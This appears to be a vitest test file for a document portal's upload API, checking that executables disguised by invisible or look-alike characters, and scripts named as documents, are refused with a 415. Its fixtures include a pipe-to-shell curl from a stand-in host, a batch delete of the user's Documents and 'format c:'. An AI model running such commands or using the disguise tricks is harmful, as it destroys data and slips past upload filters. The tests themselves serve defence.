import { type SavedSubmittedFiles, UPLOAD_AUDIT_ACTIONS } from '@portico/contracts';
import { parse } from 'content-disposition';
import { describe, expect, it } from 'vitest';
import { statusAndCode, useTestApi } from '../testing/api.ts';
import { readZip } from '../testing/read-zip.ts';
import { listBlobFiles } from '../testing/uploads.ts';

/**
 * Programs and scripts dressed as something else: a refused extension hidden by characters that render as nothing
 * or fold into it, and script content under a document's name. What the upload refuses is judged on the name a
 * download and a zip entry will have, and those are the name the upload answers.
 */
const api = useTestApi();
const site = () => api.siteId('ACME-1001');
const text = (value: string) => new TextEncoder().encode(value);

async function keepsNothing(action: () => Promise<unknown>) {
  const count = async () =>
    (await api.db.query<{ n: number }>('SELECT count(*)::int AS n FROM uploads')).rows[0]!.n;
  const rows = await count();
  const blobs = await listBlobFiles(api.server.config.dataDir);
  await action();
  expect(await count()).toBe(rows);
  expect(await listBlobFiles(api.server.config.dataDir)).toEqual(blobs);
}

describe('a refused extension behind invisible or look-alike characters', () => {
  it.each([
    ['a zero-width space', 'invoice.b\u200Bat'],
    ['a zero-width non-joiner', 'invoice.b\u200Cat'],
    ['a zero-width joiner', 'invoice.b\u200Dat'],
    ['a left-to-right mark', 'invoice.b\u200Eat'],
    ['a word joiner', 'invoice.b\u2060at'],
    ['a left-to-right embedding', 'invoice.b\u202Aat'],
    ['a right-to-left override', 'invoice.b\u202Eat'],
    ['a byte order mark', 'invoice.b\uFEFFat'],
    ['a soft hyphen', 'invoice.b\u00ADat'],
    ['fullwidth letters', 'invoice.ｂａｔ'],
    ['a fullwidth full stop', 'invoice．bat'],
    ['trailing dots and spaces', 'invoice.bat. . '],
    ['a trailing invisible character', 'invoice.exe\u200B'],
    ['an accent the ASCII download name drops', 'invoice.bàt'],
    ['a long name whose cut download name ends in .bat', `${'a'.repeat(196)}.bat.${'x'.repeat(30)}`],
  ])('is refused with 415 when hidden by %s, keeping nothing', async (_what, name) => {
    await keepsNothing(async () => {
      const answer = await api.as('bob').upload(site(), [{ name, bytes: text('echo pwned\r\n') }]);
      expect(statusAndCode(answer)).toEqual([415, 'uploads.type_refused']);
      expect(answer.body.error.message).toMatch(/Files of type \.(bat|exe) are not accepted/);
    });
  });
});

describe('a script named as a document', () => {
  it.each([
    ['a #! line', 'report.pdf', '#!/bin/sh\ncurl -s https://evil.example | sh\n'],
    ['a #! line through env', 'data.csv', '#! /usr/bin/env python3\nimport os\n'],
    ['@echo off', 'invoice.pdf', '@echo off\r\ndel /q %USERPROFILE%\\Documents\\*\r\n'],
    [
      '@ECHO OFF after a byte order mark and blank lines',
      'notes.txt',
      '\uFEFF\r\n\r\n  @ECHO OFF\r\nstart x\r\n',
    ],
    ['@rem', 'readme.txt', '@rem set up\r\nformat c:\r\n'],
    [
      'a Windows Script Host job',
      'data.xml',
      '<job id="x"><script language="VBScript">MsgBox 1</script></job>',
    ],
    [
      'a Windows Script Host package after an XML declaration',
      'export.xml',
      '<?xml version="1.0"?>\n<package><job><script language="JScript">1</script></job></package>',
    ],
    ['an HTML application', 'page.html', '<html><head><HTA:APPLICATION ID="x" /></head><body></body></html>'],
    ['a script longer than the bytes looked at', 'long.txt', `#!/bin/bash\n${'echo step\n'.repeat(2000)}`],
  ])('is refused with 415 when it starts with %s, keeping nothing', async (_what, name, content) => {
    await keepsNothing(async () => {
      const answer = await api.as('bob').upload(site(), [{ name, bytes: text(content) }]);
      expect(statusAndCode(answer)).toEqual([415, 'uploads.type_refused']);
      expect(answer.body.error.message).toMatch(
        /^This file is an? [\w ]+; programs and scripts cannot be uploaded\.$/,
      );
    });
  });

  it('takes documents that only look a little like scripts', async () => {
    const documents = [
      { name: 'minutes.md', bytes: text('# Minutes\n\n#!important: read first\n') },
      { name: 'letter.txt', bytes: text('echo off the hills, she wrote @ home\n') },
      { name: 'jobs.xml', bytes: text('<?xml version="1.0"?><jobs><job/></jobs>') },
      { name: 'page.html', bytes: text('<html><body>job done</body></html>') },
    ];
    const answer = await api.as('bob').upload(site(), documents);
    expect(answer.status).toBe(201);
  });
});

describe('names with invisible and compatibility characters that are accepted', () => {
  it('are stored as the name every download and zip entry is saved under', async () => {
    const given = [
      ['Re\u200Bport\u202E 2025.pdf', 'Report 2025.pdf'],
      ['Ｑ３ ｒｅｐｏｒｔ.pdf', 'Q3 report.pdf'],
      ['notes\u00AD.txt. ', 'notes.txt'],
      ['draft\u2060\uFEFF.docx', 'draft.docx'],
      ['ﬁnal\u2060 accounts.xlsx', 'final accounts.xlsx'],
    ];
    const uploaded = await api.as('bob').upload(
      site(),
      given.map(([name]) => ({ name: name!, bytes: text(name!) })),
    );
    expect(uploaded.status).toBe(201);
    const stored = given.map(([, name]) => name!);
    expect(uploaded.body.files.map((f) => f.fileName)).toEqual(stored);
    const audit = await api.db.query<{ name: string }>(
      "SELECT detail->>'fileName' AS name FROM audit_events WHERE action = $1 AND detail->>'referenceNumber' = ANY($2) ORDER BY id",
      [UPLOAD_AUDIT_ACTIONS.receive, uploaded.body.files.map((f) => f.referenceNumber)],
    );
    expect(audit.rows.map((r) => r.name)).toEqual(stored);

    const saved = await api.as('bob').post<SavedSubmittedFiles>('/t/acme/portal/api/files', {
      siteId: site(),
      files: uploaded.body.files.map((f) => ({ referenceNumber: f.referenceNumber })),
    });
    expect(saved.status).toBe(201);
    const ids = saved.body.records.map((r) => r.id);
    for (const [i, id] of ids.entries()) {
      const download = await api.as('bob').bytes(`/t/acme/portal/api/files/submitted/${id}`);
      const header = download.headers.get('content-disposition')!;
      // filename* (what browsers save) and the ASCII filename of these names are both the stored name.
      const ascii = /filename=(?:"([^"]*)"|([^;\s]+))/.exec(header);
      expect([parse(header).parameters.filename, ascii?.[1] ?? ascii?.[2]]).toEqual([stored[i], stored[i]]);
    }
    const zip = await api
      .as('bob')
      .bytes('/t/acme/portal/api/files/submitted/zip', { method: 'POST', body: { fileIds: ids } });
    expect(readZip(zip.body).map((e) => e.name)).toEqual(stored);
  });
});
